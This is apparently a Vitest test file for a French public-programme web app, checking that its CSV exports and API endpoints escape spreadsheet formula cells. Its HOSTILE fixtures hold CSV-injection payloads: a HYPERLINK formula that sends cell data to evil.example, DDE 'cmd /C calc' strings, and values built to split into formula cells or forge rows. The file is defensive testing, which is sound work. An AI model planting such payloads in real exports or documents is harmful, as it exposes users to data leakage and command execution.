import { describe, it, expect, beforeAll } from 'vitest';
import { parse } from 'csv-parse/sync';
import { setup, db } from '../routes/harness';
import { escapeCell, unescapeCell } from '../../src/lib/server/csv';
import { GET as exportsGet } from '../../src/routes/exports/[file]/+server';
import { GET as chartGet } from '../../src/routes/tableau-de-bord/donnees/[chart]/+server';
import { GET as programmesCsv } from '../../src/routes/api/v1/programmes.csv/+server';
import { GET as fundingCsv } from '../../src/routes/api/v1/funding.csv/+server';
import { GET as actionsCsv } from '../../src/routes/api/v1/programmes/[slug]/actions.csv/+server';

/** Cells a spreadsheet would run as formulas. */
const LIVE = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(?:[.,]\d+)?$/;

const HOSTILE = {
	action: '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
	funding: '+cmd|" /C calc"!A0',
	milestone: '@SUM(1+1)*cmd|" /C calc"!A0',
	organisation: '-2+3+cmd|" /C calc"!A0',
	// a formula after the other separator: split by a spreadsheet, it would start a cell
	milestoneSplit: 'Voirie;=1+1,=2+2',
	// a line break, then a formula: unquoted it would forge a row
	fundingBreak: 'Lot\r=1+2\n@SUM(1)\t=3'
};

beforeAll(async () => {
	await setup();
	const run = (q: string, ...args: unknown[]) =>
		db()
			.$client.prepare(q)
			.run(...args);
	run(
		`update action_items set title = ? where id = (select min(a.id) from action_items a join programmes p on p.id = a.programme_id where p.slug = 'contrat-de-ville')`,
		HOSTILE.action
	);
	run(
		`update funding_lines set label = ? where id = (select min(id) from funding_lines)`,
		HOSTILE.funding
	);
	run(
		`update milestones set title = ? where id = (select min(id) from milestones)`,
		HOSTILE.milestone
	);
	run(
		`update milestones set title = ? where id = (select max(id) from milestones)`,
		HOSTILE.milestoneSplit
	);
	run(
		`update funding_lines set label = ? where id = (select max(id) from funding_lines)`,
		HOSTILE.fundingBreak
	);
	run(
		`update action_items set title = ? where id = (select max(a.id) from action_items a join programmes p on p.id = a.programme_id where p.slug = 'contrat-de-ville')`,
		HOSTILE.milestoneSplit
	);
	run(
		`update organisations set name = ?, short_name = ? where id = (select organisation_id from funding_lines where organisation_id is not null order by id limit 1)`,
		HOSTILE.organisation,
		HOSTILE.organisation
	);
});

type Handler = (event: never) => Response | Promise<Response>;
const get = async (handler: Handler, path: string, params: Record<string, string> = {}) => {
	const url = new URL(`http://localhost${path}`);
	const response = await handler({ url, params, locals: { user: null } } as never);
	expect(response.status, path).toBe(200);
	return response.text();
};

const ROUTES: [string, Handler, string, Record<string, string>?][] = [
	...['actions', 'jalons', 'financements', 'indicateurs'].map(
		(l): [string, Handler, string, Record<string, string>] => [
			`export ${l}`,
			exportsGet as Handler,
			`/exports/${l}.csv`,
			{ file: `${l}.csv` }
		]
	),
	['export SCDL', exportsGet, '/exports/scdl-subventions.csv', { file: 'scdl-subventions.csv' }],
	...['financements-financeur', 'actions-etat-axe', 'calendrier'].map(
		(c): [string, Handler, string, Record<string, string>] => [
			`chart ${c}`,
			chartGet as Handler,
			`/tableau-de-bord/donnees/${c}`,
			{ chart: c }
		]
	),
	['API programmes', programmesCsv, '/api/v1/programmes.csv'],
	['API funding', fundingCsv, '/api/v1/funding.csv'],
	[
		'API actions',
		actionsCsv,
		'/api/v1/programmes/contrat-de-ville/actions.csv',
		{ slug: 'contrat-de-ville' }
	]
];

describe('no CSV the app emits holds a live formula', () => {
	it.each(ROUTES)('%s', async (_, handler, path, params) => {
		const text = (await get(handler, path, params)).replace(/^\uFEFF/, '');
		const delimiter = text.split('\n', 1)[0].includes(';') ? ';' : ',';
		const rows: string[][] = parse(text, { delimiter, relax_column_count: true });
		const cells = rows.flat();
		const live = cells.filter((c) => LIVE.test(c) && !PLAIN_NUMBER.test(c));
		expect(live).toEqual([]);
		// Read with the other separator too, as a spreadsheet set to it would.
		const other = delimiter === ';' ? ',' : ';';
		const otherRows: string[][] = parse(text, {
			delimiter: other,
			relax_column_count: true,
			relax_quotes: true
		});
		const split = otherRows.flat().filter((c) => /^[=+@]/.test(c.trim()));
		expect(split).toEqual([]);
	});

	it('the hostile values are there, neutralised, not dropped', async () => {
		const text = await get(exportsGet, '/exports/financements.csv', {
			file: 'financements.csv'
		});
		expect(text).toContain(`'${HOSTILE.funding.replace(/"/g, '""')}`);
	});
});

describe('escapeCell / unescapeCell', () => {
	it('prefixes every formula start, leaves numbers and text alone, and the import reverses it', () => {
		for (const v of [
			'=1+1',
			'+1',
			'-A1',
			'@x',
			'\tx',
			'\rx',
			'Voirie;=1+1,=2+2',
			'=a;+b',
			'Lot\r=1+2\n@SUM(1)\t=3'
		])
			expect(unescapeCell(String(escapeCell(v)))).toBe(v);
		expect(escapeCell('=1+1')).toBe("'=1+1");
		expect(escapeCell('-12,50')).toBe('-12,50');
		expect(escapeCell(-3)).toBe(-3);
		expect(escapeCell('Rénovation')).toBe('Rénovation');
		expect(escapeCell(null)).toBe('');
		expect(unescapeCell("'apostrophe")).toBe("'apostrophe");
	});
});
